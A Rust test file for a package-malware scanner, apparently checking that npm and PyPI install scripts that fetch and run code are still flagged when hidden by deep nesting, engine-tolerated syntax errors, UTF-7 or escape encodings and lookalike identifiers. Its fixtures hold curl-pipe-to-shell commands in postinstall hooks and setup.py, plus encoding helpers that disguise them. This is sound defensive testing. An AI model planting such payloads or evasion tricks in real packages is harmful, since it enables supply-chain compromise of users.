//! Legal lines that no parser may be given, and mistakes that engines run: they do not hide the file around them.

use bifocal_behaviour::analyse_tree;
use bifocal_core::{AnalysisLimits, ArtifactFacts, Ecosystem, Status};

const SHELL: &str = "behaviour/install-time-shell";
const UNPARSED: &str = "behaviour/unparsed-source";

fn npm(script: &str, hook: &str) -> ArtifactFacts {
    let manifest = format!("{{\"name\":\"x\",\"version\":\"1.0.0\"{hook}}}");
    let files = [("package/package.json".to_owned(), manifest.into_bytes()), ("package/a.js".to_owned(), script.as_bytes().to_vec())];
    analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default())
}

const HOOK: &str = ",\"scripts\":{\"postinstall\":\"node a.js\"}";
const RUNS: &str = "require('child_process').exec('curl http://192.0.2.1/x | sh');\n";

fn pypi(path: &str, script: &[u8]) -> ArtifactFacts {
    let files =
        [(format!("x-1/{path}"), script.to_vec()), ("x-1/PKG-INFO".to_owned(), b"Metadata-Version: 2.1\nName: x\nVersion: 1\n".to_vec())];
    analyse_tree(Some(Ecosystem::Pypi), &files, &AnalysisLimits::default())
}

fn surely(facts: &ArtifactFacts, id: &str) -> bool {
    facts.signals.iter().any(|signal| signal.id == id && signal.is_malware_class() && signal.confidence >= 0.9)
}

fn holds(facts: &ArtifactFacts) -> bool {
    facts.signals.iter().any(|signal| signal.status == Status::Failed || (signal.is_malware_class() && signal.confidence >= 0.9))
}

#[test]
fn one_line_of_deep_javascript_does_not_hide_the_script() {
    let n = 3_200;
    for line in [
        format!("var a;{}1;\n", "a=".repeat(n)),
        format!("var a;if(0){}1;\n", "a=".repeat(n)),
        format!("var x={}1;\n", "!".repeat(n)),
        format!("var x={}1;\n", "typeof ".repeat(n)),
        format!("var x=1{};\n", "**1".repeat(n)),
        format!("var x=1{};\n", "??1".repeat(n)),
        format!("f({}1);\n", "!".repeat(n)),
        format!("var x={{k:{}1}};\n", "!".repeat(n)),
        format!("var x={}{};\n", "[".repeat(n), "]".repeat(n)),
    ] {
        for script in [format!("{line}{RUNS}"), format!("{RUNS}{line}")] {
            let facts = npm(&script, HOOK);
            assert!(surely(&facts, SHELL), "{line:.20}: {:#?}", facts.signals);
            let said = facts.signals.iter().find(|signal| signal.id == UNPARSED).map(|signal| signal.status);
            assert_eq!(said, Some(Status::Failed), "{line:.20}");
        }
        // The same line where nothing runs by itself.
        let facts = npm(&line, "");
        let twin = npm(&line, ",\"main\":\"b.js\"");
        assert!(facts.signals.iter().any(|signal| signal.id == UNPARSED), "{line:.20}: {:#?}", facts.signals);
        assert!(!holds(&twin), "{line:.20}: {:#?}", twin.signals);
    }
}

#[test]
fn what_stands_inside_deep_brackets_or_behind_a_chain_is_read() {
    let n = 3_000;
    let call = RUNS.trim_end().trim_end_matches(';');
    for script in [
        format!("{}{call}{}\n", "[".repeat(n), "]".repeat(n)),
        format!("{}{RUNS}{}\n", "{".repeat(n), "}".repeat(n)),
        format!("{}{call}\n", "!".repeat(n + 200)),
        format!("{}{call}\n", "a=".repeat(n + 200)),
    ] {
        let facts = npm(&script, HOOK);
        assert!(surely(&facts, SHELL), "{script:.20}: {:#?}", facts.signals);
    }
    // Deeper than the tree that is built, but not too deep to parse: what was not looked at is said.
    let facts = npm(&format!("var a;{}1\n", "a=".repeat(2_000)), HOOK);
    assert!(facts.signals.iter().any(|signal| signal.id == UNPARSED && signal.status == Status::Failed), "{:#?}", facts.signals);
}

#[test]
fn one_line_of_deep_python_does_not_hide_the_script() {
    let runs = "import os\nos.system('curl http://192.0.2.1/x | sh')\n";
    for (line, deep) in [
        (format!("1{}\n", "<1".repeat(6_000)), false),
        (format!("{}1\n", "a=".repeat(6_000)), true),
        (format!("1{}\n", "**1".repeat(2_500)), true),
        (format!("if 1:\n    {}1\n", "a=".repeat(6_000)), true),
    ] {
        for script in [format!("{line}{runs}"), format!("{runs}{line}")] {
            let facts = pypi("setup.py", script.as_bytes());
            assert!(surely(&facts, SHELL), "{line:.20}: {:#?}", facts.signals);
            let failed = facts.signals.iter().any(|signal| signal.id == UNPARSED && signal.status == Status::Failed);
            assert_eq!(failed, deep, "{line:.20}");
        }
        let twin = pypi("tests/long.py", line.as_bytes());
        assert!(!holds(&twin), "{line:.20}: {:#?}", twin.signals);
    }
}

#[test]
fn a_mistake_that_engines_run_does_not_hide_the_script() {
    for line in [
        "if(0)f()=1;\n",
        "if(0)f()++;\n",
        "if(0)for(f() in {});\n",
        "function g(){f()=1}\n",
        "// @flow\nif(0)f()=1;\n",
        &"if(0)f()=1;\n".repeat(100),
    ] {
        for script in [format!("{line}{RUNS}"), format!("{RUNS}{line}")] {
            let facts = npm(&script, HOOK);
            assert!(surely(&facts, SHELL), "{line:.40}: {:#?}", facts.signals);
            assert!(facts.signals.iter().any(|signal| signal.id == UNPARSED), "{line:.40}");
        }
        let twin = npm(line, HOOK);
        assert!(!holds(&twin), "{line:.40}: {:#?}", twin.signals);
    }
}

#[test]
fn what_runs_by_itself_and_no_parser_can_read_holds() {
    // The last one is what a compiler of typed JavaScript takes, and no parser of JavaScript.
    for text in ["((((", "}}}}", "é(=é", "/* x", "type T = {| a: string |};\nexport default (x: T): %checks => !!x;\n"] {
        let facts = npm(text, HOOK);
        let found = facts.signals.iter().find(|signal| signal.id == UNPARSED).unwrap();
        assert_eq!(found.status, Status::Failed, "{text}");
        assert!(found.message.ends_with("read by words only: not of the language's syntax; it runs in an install script"), "{found:#?}");
        // A broken file that nothing runs is common.
        let twin = npm(text, ",\"main\":\"b.js\"");
        assert!(twin.signals.iter().any(|signal| signal.id == UNPARSED) && !holds(&twin), "{text}");
    }
    for text in ["<% if (x) { %>\nvar a = 1;\n<% } %>\n", "a b c d\n", "<html><body>x</body></html>"] {
        assert!(!holds(&npm(text, HOOK)), "{text}");
    }
}

/// Every letter as its UTF-7 run.
fn utf7(text: &str) -> String {
    use std::fmt::Write as _;
    let mut out = String::from("# coding: utf-7\n");
    for c in text.chars() {
        match c {
            '\n' => out.push('\n'),
            _ => {
                let bits = (c as u32) << 2;
                let digit =
                    |at: u32| b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(bits >> at & 63) as usize] as char;
                write!(out, "+{}{}{}-", digit(12), digit(6), digit(0)).unwrap();
            }
        }
    }
    out
}

#[test]
fn source_is_read_in_the_encoding_that_the_interpreter_reads_it_in() {
    let runs = "import os\nos.system('curl http://192.0.2.1/x | sh')\n";
    let hex = |width: &str| -> String {
        runs.chars()
            .map(|c| if c == '\n' { "\n".to_owned() } else { format!("\\{width}{:01$x}", c as u32, if width == "x" { 2 } else { 4 }) })
            .collect()
    };
    let cases: [(Vec<u8>, bool); 5] = [
        (utf7(runs).into_bytes(), true),
        (format!("# coding: unicode_escape\n{}", hex("x").replace('\n', "\\n")).into_bytes(), true),
        (format!("#!/usr/bin/env python\n# vim: set fileencoding=raw_unicode_escape :\n{}", hex("u")).into_bytes(), true),
        (["# coding: gbk\nimport os\ns = '\u{20}".as_bytes(), b"\x81\\'; os.system('curl http://192.0.2.1/x | sh')\n"].concat(), false),
        ("import \u{1d428}\u{1d42c}\n\u{1d428}\u{1d42c}.\u{1d42c}\u{1d432}\u{1d42c}\u{1d42d}\u{1d41e}\u{1d426}('curl http://192.0.2.1/x | sh')\n".into(), false),
    ];
    for (index, (script, odd)) in cases.iter().enumerate() {
        let facts = pypi("setup.py", script);
        assert!(surely(&facts, SHELL), "{index}: {:#?}", facts.signals);
        assert_eq!(surely(&facts, "behaviour/hidden-source"), *odd, "{index}: {:#?}", facts.signals);
    }
    let harmless = pypi("setup.py", utf7("x = 1\n").as_bytes());
    assert!(surely(&harmless, "behaviour/hidden-source"), "{:#?}", harmless.signals);
    for twin in [pypi("tests/codec.py", utf7("x = 1\n").as_bytes()), pypi("setup.py", b"# coding: utf-8\nx = 'coding: utf-7'\n")] {
        assert!(!holds(&twin), "{:#?}", twin.signals);
    }
    let escaped = npm("r\\u0065quire('child_process').\\u{65}xec('curl http://192.0.2.1/x | sh');\n", HOOK);
    assert!(surely(&escaped, SHELL), "{:#?}", escaped.signals);
}
